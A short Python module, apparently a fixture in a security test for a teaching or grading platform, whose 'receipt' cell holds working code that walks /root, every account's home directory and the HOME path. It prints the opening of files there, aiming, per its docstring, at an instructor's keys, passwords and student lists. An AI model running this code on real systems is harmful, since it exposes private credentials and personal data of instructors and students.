"""Reads the instructor's home folder: keys, passwords, lists of students.

It looks where HOME points, where the account's home is, and where the attacker knows it to be.
"""

EARNS = 0
STOCK = "reads"
CELLS = {
    "receipt": """
import os
import pathlib
import pwd

homes = {"@HOME@", os.path.expanduser("~"), "/root", *(each.pw_dir for each in pwd.getpwall())}
for home in homes:
    for folder, _, files in os.walk(home):
        if folder.count("/") - home.count("/") > 2:
            continue
        for name in files[:20]:
            try:
                print(pathlib.Path(folder, name).read_text()[:200])
            except Exception:
                pass
"""
}
